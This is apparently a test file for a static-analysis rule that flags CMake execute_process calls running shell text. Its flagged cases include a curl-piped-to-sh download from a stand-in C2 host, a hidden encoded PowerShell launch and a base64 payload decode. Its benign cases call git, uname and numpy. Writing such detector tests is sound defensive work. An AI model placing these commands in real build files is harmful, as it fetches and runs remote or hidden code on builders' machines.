# ruleid: cmake-runs-shell-text
execute_process(COMMAND sh -c "curl -s https://c2.invalid/x | sh")
# ruleid: cmake-runs-shell-text
execute_process(COMMAND powershell -w hidden -enc ${P})
# ruleid: cmake-runs-shell-text
execute_process(
  COMMAND bash -c "base64 -d ${F} > ${O}")
# ok: cmake-runs-shell-text
execute_process(COMMAND git describe OUTPUT_VARIABLE v)
# ok: cmake-runs-shell-text
execute_process(COMMAND sh -c "uname -m")
# ok: cmake-runs-shell-text
execute_process(COMMAND ${PYTHON} -c "import numpy; print(numpy.get_include())")
